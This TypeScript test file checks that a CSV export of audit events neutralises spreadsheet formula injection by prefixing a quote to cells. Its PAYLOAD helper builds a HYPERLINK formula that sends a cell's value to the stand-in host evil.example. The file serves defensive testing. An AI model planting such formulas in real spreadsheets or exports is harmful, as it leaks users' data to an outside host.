/**
 * CSV export against formula injection: every cell of a row built from a
 * fully hostile event (every string the API controls starts with a formula
 * character) must reach a spreadsheet as text.
 */
import * as assert from 'node:assert/strict';
import { CSV_COLUMNS, csvCell, csvRow } from '../../../src/core/export';
import { parseAuditEvent } from '../../../src/core/model';

/** RFC 4180 reader: enough to get the cells back as a spreadsheet would. */
function readCsvRow(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        value += line.slice(i, q);
        if (line[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      cells.push(value);
      i++; // the comma
    } else {
      const comma = line.indexOf(',', i);
      const end = comma < 0 ? line.length : comma;
      cells.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return cells;
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOAD = (c: string): string => `${c}HYPERLINK("https://evil.example/?"&A1,"Click")`;

describe('security: CSV export is formula-safe', () => {
  for (const c of FORMULA_STARTS) {
    it(`a cell starting with ${JSON.stringify(c)} is defused with a leading quote`, () => {
      const cell = csvCell(PAYLOAD(c));
      const value = cell.startsWith('"') ? readCsvRow(cell)[0]! : cell;
      assert.equal(value, `'${PAYLOAD(c)}`);
    });
  }

  it('every column of a hostile event is text', () => {
    for (const c of FORMULA_STARTS) {
      const p = PAYLOAD(c);
      const raw = JSON.stringify({
        id: p,
        type: p,
        effective_at: 1_700_000_000,
        actor: { type: 'session', session: { user: { id: p, email: p }, ip_address: p } },
        project: { id: p, name: p },
        [p]: { id: p, data: { name: p } },
      });
      const row = readCsvRow(csvRow(parseAuditEvent(raw)));
      assert.equal(row.length, CSV_COLUMNS.length);
      row.forEach((cell, i) => {
        assert.ok(!FORMULA_STARTS.includes(cell[0] ?? ''), `column ${CSV_COLUMNS[i]} starts with ${JSON.stringify(cell[0])}: ${cell}`);
      });
    }
  });

  it('quotes commas, quotes and line breaks so a value cannot open a new row or cell', () => {
    const cell = csvCell('a,"b"\r\n=1+1');
    assert.equal(cell, '"a,""b""\r\n=1+1"');
    assert.deepEqual(readCsvRow(cell), ['a,"b"\r\n=1+1']);
    assert.equal(csvCell('plain text'), 'plain text');
    assert.equal(csvCell('x=1'), 'x=1', 'only a leading formula character matters');
  });
});
